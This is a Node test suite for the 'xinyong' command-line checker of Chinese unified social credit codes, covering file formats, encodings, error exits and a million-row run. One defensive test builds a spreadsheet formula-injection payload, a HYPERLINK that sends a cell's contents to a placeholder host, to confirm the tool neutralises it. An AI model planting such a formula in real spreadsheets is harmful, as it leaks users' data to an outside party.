// The Node command-line tool of the npm package (pkg/cli.mjs, `npx xinyong
// check`) on fixtures written here: text, CSV, TSV, quoted fields, BOM, GBK,
// UTF-16, an empty file, a missing column, and a generated 1-million-row file
// (exact counts and bounded memory; never a timing assertion).
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { spawn, spawnSync } from 'node:child_process';
import { mkdtempSync, writeFileSync, readFileSync, createWriteStream, rmSync } from 'node:fs';
import { once } from 'node:events';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { createRequire } from 'node:module';
import iconv from 'iconv-lite';
import { parse } from 'csv-parse/sync';
import { validCode, badCheckChar, largeRows } from './gen-codes.mjs';

const require = createRequire(import.meta.url);
const root = fileURLToPath(new URL('../..', import.meta.url));
const cli = join(root, 'pkg', 'cli.mjs');
const lib = await import(join(root, 'pkg', 'cli-lib.mjs'));
const dir = mkdtempSync(join(tmpdir(), 'xinyong-cli-'));
process.on('exit', () => rmSync(dir, { recursive: true, force: true }));

const VALID = '91350100M000100Y43';
const TYPO = '9135010OM000100Y43'; // O for 0 in the division code
const FLOAT = '916201055811843000'; // a spreadsheet float: last digits lost

function file(name, content) {
  const path = join(dir, name);
  writeFileSync(path, content);
  return path;
}

function run(args, input) {
  const r = spawnSync(process.execPath, [cli, ...args], { input, maxBuffer: 64 << 20 });
  return { status: r.status, stdout: r.stdout.toString('utf8'), stderr: r.stderr.toString('utf8') };
}

const csv = (text, delimiter = ',') => parse(text, { delimiter, relax_column_count: true });

test('the package declares the bin and its exact runtime dependencies', () => {
  const pkg = require(join(root, 'pkg', 'package.json'));
  const workspace = require(join(root, 'package.json'));
  assert.deepEqual(pkg.bin, { xinyong: './cli.mjs' });
  for (const [name, version] of Object.entries(pkg.dependencies)) {
    assert.match(version, /^\d+\.\d+\.\d+$/, name);
    assert.equal(workspace.devDependencies[name], version, name);
  }
  for (const f of ['cli.mjs', 'cli-lib.mjs', 'cli-rules.mjs']) assert.ok(pkg.files.includes(f), f);
  // npm's bin link in this workspace (node_modules/xinyong -> pkg) runs it too.
  const r = spawnSync(process.execPath, [join(root, 'node_modules', 'xinyong', 'cli.mjs'), '-V']);
  assert.equal(r.stdout.toString().trim(), `xinyong ${pkg.version}`);
  // --version also lists the rule sets and the calendar (as the native binary).
  const long = spawnSync(process.execPath, [join(root, 'node_modules', 'xinyong', 'cli.mjs'), '--version']).stdout.toString();
  assert.equal(long.split('\n')[0], `xinyong ${pkg.version}`);
  assert.match(long, /^working-day calendar: 2004-2026$/m);
});

test('plain text: one code a line, result columns, exit 1, summary', () => {
  const r = run(['check', file('codes.txt', `${VALID}\n${TYPO}\r\n\n${FLOAT}\n ９１３５０１００ｍ０００１００ｙ４３ \n`)]);
  assert.equal(r.status, 1, r.stderr);
  const rows = csv(r.stdout);
  assert.deepEqual(rows[0], ['input', ...lib.RESULT_COLUMNS]);
  assert.equal(rows.length, 5); // the empty line is skipped
  assert.deepEqual(rows[1], [VALID, 'true', VALID, '', '', '', '', '350100', '福建省福州市', '']);
  assert.deepEqual(rows[2].slice(0, 5), [TYPO, 'false', TYPO, 'division_format', '8']);
  assert.match(rows[2][5], /第 8 位应为数字/);
  assert.equal(rows[2][6], VALID);
  assert.equal(rows[3][3], 'org_code_check');
  assert.match(rows[3][5], /电子表格/); // the diagnosis follows the error
  assert.deepEqual(rows[4].slice(1, 3), ['true', VALID]); // full-width, lower case, spaces
  assert.equal(rows[4][9], '1'); // the same normalized code as row 1
  assert.match(r.stderr, /共 4 行：有效 2，无效 2/);
  assert.match(r.stderr, /division_format\s+1/);
  assert.match(r.stderr, /重复：1 个代码出现不止一次（多出 1 行）/);
});

test('all valid: exit 0; --lang en and zh-Hant; stdin', () => {
  const ok = run(['check', '--lang', 'en', '-'], `${VALID}\n${validCode(7)}\n`);
  assert.equal(ok.status, 0, ok.stderr);
  assert.match(ok.stderr, /2 rows: 2 valid, 0 invalid/);
  const en = run(['check', '--lang', 'en'], `${TYPO}\n`);
  assert.match(csv(en.stdout)[1][5], /^position 8: expected a digit/);
  const hant = run(['check', '--lang', 'zh-Hant'], `${TYPO}\n`);
  assert.match(csv(hant.stdout)[1][5], /第 8 位應為數字/);
  assert.match(hant.stderr, /無效 1/);
});

test('CSV with a header: the code column is found by its name, or given by name or number', () => {
  const path = file('data.csv', `序号,单位名称,统一社会信用代码\n1,甲,${VALID}\n2,乙,${TYPO}\n`);
  for (const args of [[], ['--column', '统一社会信用代码'], ['--column', ' 统一社会信用代码 '], ['-c', '3']]) {
    const r = run(['check', ...args, path]);
    assert.equal(r.status, 1, `${args}: ${r.stderr}`);
    const rows = csv(r.stdout);
    assert.deepEqual(rows[0], ['序号', '单位名称', '统一社会信用代码', ...lib.RESULT_COLUMNS]);
    assert.deepEqual(rows.slice(1).map((row) => row[3]), ['true', 'false'], `${args}`);
    assert.match(r.stderr, /列 3 "统一社会信用代码"/);
  }
  // Without a header, the column of code-like values is chosen.
  const bare = run(['check', file('bare.csv', `甲,${VALID},x\n乙,${validCode(3)},y\n`)]);
  assert.equal(bare.status, 0, bare.stderr);
  assert.deepEqual(csv(bare.stdout)[0], ['column1', 'column2', 'column3', ...lib.RESULT_COLUMNS]);
  assert.match(bare.stderr, /表头 无, 列 2/);
  // --no-header keeps a first row that would pass for a header.
  const forced = run(['check', '--no-header', '-c', '1'], `N/A\n${VALID}\n`);
  assert.match(forced.stderr, /共 2 行/);
});

test('a missing column: exit 2, naming the columns there are', () => {
  const path = file('cols.csv', `名称,代码\n甲,${VALID}\n`);
  const r = run(['check', '--column', '信用代码', path]);
  assert.equal(r.status, 2);
  assert.equal(r.stdout, '');
  assert.match(r.stderr, /no column named "信用代码"; the columns are: 1 "名称", 2 "代码"/);
  const n = run(['check', '--column', '5', path]);
  assert.equal(n.status, 2);
  assert.match(n.stderr, /there is no column 5: the input has 2 column\(s\): 1 "名称", 2 "代码"/);
});

test('TSV: detected by its tabs, written back as TSV', () => {
  const r = run(['check', file('data.tsv', `名称\tUSCC\n甲, 乙\t${VALID}\n`)]);
  assert.equal(r.status, 0, r.stderr);
  const lines = r.stdout.trimEnd().split('\n');
  assert.equal(lines[0], ['名称', 'USCC', ...lib.RESULT_COLUMNS].join('\t'));
  assert.equal(lines[1].split('\t')[0], '甲, 乙');
  assert.match(r.stderr, /TSV/);
  // --delimiter forces one.
  const semi = run(['check', '--delimiter', ';', '--lang', 'en'], `name;code\nx;${VALID}\n`);
  assert.equal(semi.status, 0, semi.stderr);
  assert.match(semi.stderr, /CSV \(;\), .*column 2 "code"/);
});

test('quoted fields with commas, quotes and line breaks survive the round trip', () => {
  const input = `名称,统一社会信用代码,地址\n"甲公司, 有限","${VALID}","第一行\n第二行"\n"说""好""的",${TYPO},"a,b"\n`;
  const r = run(['check', file('quoted.csv', input)]);
  assert.equal(r.status, 1, r.stderr);
  const rows = csv(r.stdout);
  assert.equal(rows.length, 3);
  assert.deepEqual(rows[1].slice(0, 4), ['甲公司, 有限', VALID, '第一行\n第二行', 'true']);
  assert.deepEqual(rows[2].slice(0, 4), ['说"好"的', TYPO, 'a,b', 'false']);
  assert.match(rows[2][7], /第 8 位/); // the message, with its comma-free quotes, in column 8
});

test('cells a spreadsheet would run as formulas get a leading apostrophe, unless --no-formula-guard', () => {
  const evil = '=HYPERLINK("http://example.invalid/?"&A1,"点击")';
  const input = `名称,统一社会信用代码,金额,备注\n@SUM(A1:A9),"${evil.replaceAll('"', '""')}",-5,-\n甲公司,${VALID},+86,-2+3\n`;
  const path = file('formula.csv', input);
  const rows = csv(run(['check', path]).stdout);
  assert.deepEqual(rows[1].slice(0, 4), ['\'@SUM(A1:A9)', `'${evil}`, '-5', '-']);
  assert.equal(rows[1][5], `'${evil.toUpperCase()}`, 'the normalized column comes from the input too');
  assert.deepEqual(rows[2].slice(0, 5), ['甲公司', VALID, '+86', "'-2+3", 'true']);
  for (const row of rows) for (const cell of row) assert.ok(!/^[=+@\t\r]/.test(cell) || /^\+\d+$/.test(cell), cell);
  const raw = csv(run(['check', '--no-formula-guard', path]).stdout);
  assert.deepEqual(raw[1].slice(0, 4), ['@SUM(A1:A9)', evil, '-5', '-']);
  assert.equal(raw[2][3], '-2+3');
  assert.ok(lib.looksLikeFormula('=1') && lib.looksLikeFormula('\t=1') && !lib.looksLikeFormula('1e5') && !lib.looksLikeFormula('a=b'));
});

test('a UTF-8 BOM is dropped, from the data and from the header names', () => {
  const r = run(['check', '--column', '统一社会信用代码', file('bom.csv', `\uFEFF统一社会信用代码,名称\n${VALID},甲\n`)]);
  assert.equal(r.status, 0, r.stderr);
  assert.deepEqual(csv(r.stdout)[0].slice(0, 2), ['统一社会信用代码', '名称']);
  assert.match(r.stderr, /utf8 \(BOM\)/);
  const text = run(['check', file('bom.txt', `\uFEFF${VALID}\n`)]);
  assert.equal(text.status, 0, text.stderr);
  // --bom writes one for Excel.
  assert.ok(run(['check', '--bom'], `${VALID}\n`).stdout.startsWith('\uFEFFinput,'));
});

test('GBK from Excel: detected, decoded, written as UTF-8', () => {
  const content = `单位名称,统一社会信用代码\n福建某某有限公司,${VALID}\n厦门某某,${TYPO}\n`;
  const path = file('gbk.csv', iconv.encode(content, 'gbk'));
  for (const args of [[], ['--encoding', 'gbk']]) {
    const r = run(['check', ...args, path]);
    assert.equal(r.status, 1, r.stderr);
    const rows = csv(r.stdout);
    assert.deepEqual(rows[0].slice(0, 2), ['单位名称', '统一社会信用代码']);
    assert.deepEqual(rows[1].slice(0, 3), ['福建某某有限公司', VALID, 'true']);
    assert.match(r.stderr, /gbk/);
  }
  // GBK that starts only after a long ASCII prefix (several read chunks).
  const ascii = Array.from({ length: 30000 }, (_, i) => `${i},${validCode(i)}`).join('\n');
  const late = run(['check', '--no-header', file('late-gbk.csv', iconv.encode(`${ascii}\n中文,${VALID}\n`, 'gbk'))]);
  assert.equal(late.status, 0, late.stderr);
  assert.equal(csv(late.stdout).at(-1)[0], '中文');
  // UTF-8 first, then bytes that are not: an input error, not mojibake.
  const mixed = Buffer.concat([Buffer.from(`名称,代码\n甲,${VALID}\n${ascii}\n`), iconv.encode('乙', 'gbk'), Buffer.from(`,${VALID}\n`)]);
  const bad = run(['check', file('mixed.csv', mixed)]);
  assert.equal(bad.status, 2, bad.stderr);
  assert.match(bad.stderr, /not valid UTF-8 .*--encoding gbk/);
  // UTF-16LE with a BOM: Excel's "Unicode Text" (tab-separated).
  const utf16 = Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(`名称\t代码\n甲\t${VALID}\n`, 'utf16le')]);
  const u = run(['check', '-c', '代码', file('unicode.txt', utf16)]);
  assert.equal(u.status, 0, u.stderr);
  assert.equal(csv(u.stdout, '\t')[1][0], '甲');
});

test('an empty file: no rows, exit 0', () => {
  for (const content of ['', '\n\n', '\uFEFF']) {
    const r = run(['check', file('empty.csv', content)]);
    assert.equal(r.status, 0, r.stderr);
    assert.equal(r.stdout.replace('\uFEFF', ''), '');
    assert.match(r.stderr, /共 0 行/);
  }
});

test('--json and --invalid-only', () => {
  const path = file('j.csv', `名称,统一社会信用代码\n甲,${VALID}\n乙,${TYPO}\n丙,${VALID}\n`);
  const r = run(['check', '--json', path]);
  assert.equal(r.status, 1);
  const lines = r.stdout.trimEnd().split('\n').map((l) => JSON.parse(l));
  assert.equal(lines.length, 3);
  assert.deepEqual(lines[0].fields, { 名称: '甲', 统一社会信用代码: VALID });
  assert.equal(lines[1].errors[0].kind, 'division_format');
  assert.equal(lines[1].suggestions[0].code, VALID);
  assert.deepEqual([lines[0].row, lines[2].duplicateOf], [1, 1]);
  const invalid = run(['check', '--invalid-only', path]);
  assert.deepEqual(csv(invalid.stdout).map((row) => row[0]), ['名称', '乙']);
  const invalidJson = run(['check', '--json', '--invalid-only', '--no-suggestions', path]);
  const only = invalidJson.stdout.trimEnd().split('\n').map((l) => JSON.parse(l));
  assert.deepEqual(only.map((l) => [l.row, l.suggestions.length]), [[2, 0]]);
});

test('usage: --help with examples, errors exit 2', () => {
  const help = run(['--help']);
  assert.equal(help.status, 0);
  assert.match(help.stdout, /Usage: xinyong check/);
  assert.match(help.stdout, /Examples:\n {2}npx xinyong check/);
  for (const args of [['check', '--nope'], ['check', '--lang', 'fr'], ['check', '--encoding', 'latin1'], ['frob'], [],
    ['check', file('one.txt', VALID), file('two.txt', VALID)], ['check', join(dir, 'does-not-exist.csv')], ['check', '--delimiter', 'ab']]) {
    const r = run(args, '');
    assert.equal(r.status, 2, `${args}: ${r.stderr}`);
    assert.match(r.stderr, /^xinyong: /, `${args}`);
  }
});

test('division and region columns: the code in every language, and its name', () => {
  const r = { valid: true, normalized: VALID, errors: [], warnings: [], diagnoses: [], suggestions: [], parts: { divisionCode: '350200' } };
  assert.deepEqual(lib.resultColumns(r, 'en').slice(6), ['350200', '']);
  r.parts.division = { code: '350200', fullName: { 'zh-Hans': '福建省厦门市', 'zh-Hant': '福建省廈門市' } };
  for (const [lang, name] of [['en', '福建省厦门市'], ['zh-Hans', '福建省厦门市'], ['zh-Hant', '福建省廈門市']]) {
    assert.deepEqual(lib.resultColumns(r, lang).slice(6), ['350200', name], lang);
  }
  assert.equal(lib.divisionOf(r), '350200');
  // Codes as arguments (not files) are rows of a one-column input.
  const args = run(['check', '--lang', 'en', VALID, '91350200MA31F7KX1J']);
  assert.equal(args.status, 0, args.stderr);
  assert.deepEqual(csv(args.stdout).map((row) => row.slice(7, 9)), [['division', 'region'], ['350100', '福建省福州市'], ['350200', '福建省厦门市']]);
});

test('header detection and code-likeness', () => {
  for (const s of [VALID, TYPO, FLOAT, '9135 0100 M000 100Y 43', 'D2143569-X', '１２３４５６７８９']) assert.ok(lib.looksLikeCode(s), s);
  for (const s of ['统一社会信用代码', 'USCC', 'credit code', '', 'N/A', 'Fuzhou Company']) assert.ok(!lib.looksLikeCode(s), s);
  assert.deepEqual(lib.chooseColumn([['名称', '信用代码'], ['甲', VALID]], { format: 'csv' }), { header: true, index: 1 });
  assert.deepEqual(lib.chooseColumn([['甲', VALID], ['乙', TYPO]], { format: 'csv' }), { header: false, index: 1 });
  assert.deepEqual(lib.chooseColumn([['名称', '号码'], ['甲', VALID]], { format: 'csv' }), { header: true, index: 1 });
  assert.deepEqual(lib.chooseColumn([[VALID]], { format: 'text' }), { header: false, index: 0 });
  assert.deepEqual(lib.chooseColumn([['统一社会信用代码'], [VALID]], { format: 'text' }), { header: true, index: 0 });
  assert.equal(lib.detectFormat('a\tb', 'x.csv'), 'tsv');
  assert.equal(lib.detectFormat('abc', 'x.csv'), 'csv');
  assert.equal(lib.detectFormat(VALID, undefined), 'text');
});

test('CodeTable: first rows, repeats, growth and its limit', () => {
  const t = new lib.CodeTable(100_000);
  for (let i = 1; i <= 100_000; i++) assert.equal(t.visit(validCode(i), i), 0);
  assert.equal(t.visit(validCode(5), 100_001), 5);
  assert.equal(t.visit(validCode(5), 100_002), 5);
  assert.equal(t.visit(validCode(99_999), 100_003), 99_999);
  assert.deepEqual([t.size, t.repeatedCodes, t.extraRows, t.full], [100_000, 2, 3, false]);
  assert.equal(t.visit(badCheckChar(validCode(1)), 100_004), 0); // over the limit: not tracked
  assert.equal(t.full, true);
});

test('1,000,000 rows: exact counts, every row written, bounded memory', { timeout: 120_000 }, async () => {
  const path = join(dir, 'million.csv');
  const out = createWriteStream(path);
  let buffer = 'id,单位名称,统一社会信用代码\n';
  const expect = largeRows(1_000_000, (i, code) => {
    buffer += `${i + 1},"单位 ${i}, 分支",${code}\n`;
    if (buffer.length > 1 << 20) {
      out.write(buffer);
      buffer = '';
    }
  });
  out.end(buffer);
  await once(out, 'finish');

  const child = spawn(process.execPath, [cli, 'check', '--lang', 'en', '--no-suggestions', path]);
  let lines = 0;
  let stderr = '';
  child.stdout.on('data', (chunk) => {
    for (let i = chunk.indexOf(10); i >= 0; i = chunk.indexOf(10, i + 1)) lines++;
  });
  child.stderr.on('data', (chunk) => (stderr += chunk));
  const [status] = await once(child, 'close');
  assert.equal(status, 1, stderr);
  assert.equal(lines, 1 + expect.rows); // the header, then every row (no quoted line breaks here)
  const num = (re) => Number(stderr.match(re)?.[1].replaceAll(',', ''));
  assert.equal(num(/([\d,]+) rows:/), expect.rows);
  assert.equal(num(/([\d,]+) valid/), expect.valid);
  assert.equal(num(/check_char\s+([\d,]+)/), expect.check_char);
  assert.equal(num(/length\s+([\d,]+)/), expect.length);
  assert.equal(num(/duplicates: ([\d,]+) codes/), expect.duplicates);
  assert.equal(num(/\(([\d,]+) extra rows\)/), expect.duplicates);
  const peak = num(/peak memory ([\d,]+) MiB/);
  assert.ok(peak > 0 && peak < 300, `peak memory ${peak} MiB`);
  console.log(`# 1M rows: ${stderr.trim().split('\n').at(-1).trim()}`);
});
